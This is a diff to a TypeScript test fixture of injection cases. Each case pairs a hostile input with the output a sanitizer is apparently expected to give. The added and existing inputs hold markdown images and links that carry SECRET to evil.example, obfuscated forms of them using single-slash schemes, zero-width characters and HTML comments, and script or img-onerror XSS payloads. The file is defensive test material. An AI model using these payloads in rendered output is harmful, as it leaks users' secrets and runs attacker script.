@@ -22,7 +22,7 @@ export const injectionCases: readonly InjectionCase[] = [
   {
     attack: 'Image by reference',
     says: '![ok][x]\n\n[x]: https://evil.example/p.png?d=SECRET',
-    gets: '[ok][x]\n\n[x]:',
+    gets: '[ok][x]\n\n[x] :',
   },
   {
     attack: 'Image of a cited source',
@@ -33,7 +33,27 @@ export const injectionCases: readonly InjectionCase[] = [
   {
     attack: 'Link by reference',
     says: '[the form][f]\n\n[f]: <https://evil.example/?q=SECRET> "t"',
-    gets: '[the form][f]\n\n[f]: <> "t"',
+    gets: '[the form][f]\n\n[f] : "t"',
+  },
+  {
+    attack: 'Link with one slash and a quoted title',
+    says: '[the form](https:/evil.example/?q=SECRET "a\\"b")',
+    gets: '[the form]',
+  },
+  {
+    attack: 'Image by a definition with one slash',
+    says: '![9][ok][f]\n\n[f]: https:/evil.example/p.png?d=SECRET',
+    gets: '[ok][f]\n\n[f] :',
+  },
+  {
+    attack: 'Address around a citation that was not given',
+    says: 'See https:/[9]/evil.example/SECRET',
+    gets: 'See/evil.example/SECRET',
+  },
+  {
+    attack: 'Image around comments',
+    says: '!<!-- -->[ok]<!-- -->(https:/<!-- -->/evil.example/p.png?d=SECRET)',
+    gets: '[ok]',
   },
   { attack: 'Bare address', says: 'See https://evil.example/SECRET', gets: 'See' },
   { attack: 'Address in angle brackets', says: '<https://evil.example/SECRET>', gets: '<>' },
@@ -115,6 +135,21 @@ export const injectionCases: readonly InjectionCase[] = [
     attack: 'Invisible sign in the scheme',
     says: 'ht\u200btps://evil.example/SECRET',
     gets: 'ht\u200btps',
+  },
+  {
+    attack: 'Tags that another tag cuts off',
+    says: '<script <b>go()</script <b>',
+    gets: 'script <b>go()/script <b>',
+  },
+  {
+    attack: 'Tag that is left of two',
+    says: '<<script>img src=x onerror=go()>',
+    gets: '< img src=x onerror=go()>',
+  },
+  {
+    attack: 'HTML behind a lone backtick',
+    says: 'Use ` here <img src=x onerror=go()>',
+    gets: 'Use ` here < img src=x onerror=go()>',
   },
   { attack: 'Direction turned round', says: '\u202Egnp.exe\u202C', gets: 'gnp.exe' },
   { attack: 'Invisible tags', says: 'ok\u{e0053}\u{e0045}\u{e0043}', gets: 'ok' },
